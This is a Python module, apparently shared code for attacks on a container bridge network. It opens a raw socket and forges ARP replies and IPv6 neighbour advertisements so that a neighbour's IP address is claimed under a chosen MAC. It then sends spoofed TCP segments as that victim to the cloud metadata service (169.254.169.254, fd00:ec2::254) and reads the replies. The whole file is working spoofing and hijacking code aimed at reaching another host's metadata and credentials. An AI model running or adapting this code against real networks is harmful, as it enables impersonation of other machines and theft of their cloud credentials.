"""What the attacks on a bridge share, for IPv4 and IPv6 alike: the raw wire of eth0, and a neighbour's name on it.

WIRE in the environment is another interface than eth0.
"""
import os
import random
import socket
import struct
import sys
import time

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
DEVICE = os.environ.get("WIRE", "eth0")
wire.bind((DEVICE, 0))

METADATA4, METADATA6 = "169.254.169.254", "fd00:ec2::254"
TCP, ICMP6 = 6, 58


def hardware(text):
    return bytes.fromhex(text.replace(":", ""))


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def gateway_mac(gateway):
    for _ in range(20):
        for fields in map(str.split, open("/proc/net/arp")):
            if fields[0] == gateway and fields[3] != "00:00:00:00:00:00":
                return hardware(fields[3])
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", (gateway, 9))
        time.sleep(0.1)
    sys.exit("the gateway has no hardware address")


def checksum(data):
    total = sum(struct.unpack("!%dH" % ((len(data) + 1) // 2), data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


class Name:
    """The victim's address, claimed with a hardware address by MODE: "own", an "invented" one, or the "victim"'s.

    `gateway` is the bridge's IPv4 address, and for a victim with an IPv6 address both of its: "172.18.0.1,fd00:6::1".
    """

    def __init__(self, mode, victim, victim_mac, gateway):
        own = wire.getsockname()[4]
        gateway4, _, gateway6 = gateway.partition(",")
        self.is6 = ":" in victim
        self.victim, self.gateway = packed(victim), packed(gateway6 if self.is6 else gateway4)
        self.metadata = packed(METADATA6 if self.is6 else METADATA4)
        self.source = {"own": own, "invented": bytes([2]) + random.randbytes(5), "victim": hardware(victim_mac)}[mode]
        self.door = gateway_mac(gateway4)
        self.floods = mode == "victim"

    def claim(self):
        """Tells the gateway, and with the victim's own hardware address the bridge, that the address is here."""
        if self.is6:
            # Solicitation and advertisement of RFC 4861: the first makes an entry, the second overrides one.
            self.frame6(ICMP6, self.gateway, self.icmp6(135, 0, self.gateway, 1))
            self.frame6(ICMP6, self.gateway, self.icmp6(136, 0x60000000, self.victim, 2))
            return
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + self.source + self.victim + self.door + self.gateway
        wire.send((b"\xff" * 6 if self.floods else self.door) + self.source + b"\x08\x06" + arp)

    def icmp6(self, kind, flags, target, option):
        body = struct.pack("!BBHI", kind, 0, 0, flags) + target + struct.pack("!BB", option, 1) + self.source
        pseudo = self.victim + self.gateway + struct.pack("!II", len(body), ICMP6)
        return body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]

    def frame6(self, following, to, payload):
        head = struct.pack("!IHBB", 6 << 28, len(payload), following, 255) + self.victim + to
        wire.send(self.door + self.source + b"\x86\xdd" + head + payload)

    def send(self, segment, data=b""):
        """A TCP segment to the metadata service: (our port, sequence, acknowledged, flags)."""
        port, sequence, acknowledged, flags = segment
        tcp = struct.pack("!HHIIBBHHH", port, 80, sequence, acknowledged, 5 << 4, flags, 65535, 0, 0)
        length = len(tcp) + len(data)
        pseudo = self.victim + self.metadata + struct.pack("!II" if self.is6 else "!HH", *((length, TCP) if self.is6 else (TCP, length)))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + tcp[18:]
        if self.is6:
            return self.frame6(TCP, self.metadata, tcp + data)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, random.randint(1, 65535), 0x4000, 64, TCP, 0) + self.victim + self.metadata
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        wire.send(self.door + self.source + b"\x08\x00" + ip + tcp + data)

    def heard(self, frame):
        """Of a TCP segment from the metadata service to the victim: (to port, sequence, flags, data); else None."""
        if self.is6:
            if frame[12:14] != b"\x86\xdd" or frame[20] != TCP or frame[22:54] != self.metadata + self.victim:
                return None
            start, end = 54, 54 + struct.unpack("!H", frame[18:20])[0]
        else:
            if frame[12:14] != b"\x08\x00" or frame[23] != TCP or frame[26:34] != self.metadata + self.victim:
                return None
            start, end = 14 + (frame[14] & 15) * 4, 14 + struct.unpack("!H", frame[16:18])[0]
        _, to, sequence, _, offset, flags = struct.unpack("!HHIIBB", frame[start:start + 14])
        return to, sequence, flags, frame[start + (offset >> 4) * 4:end]
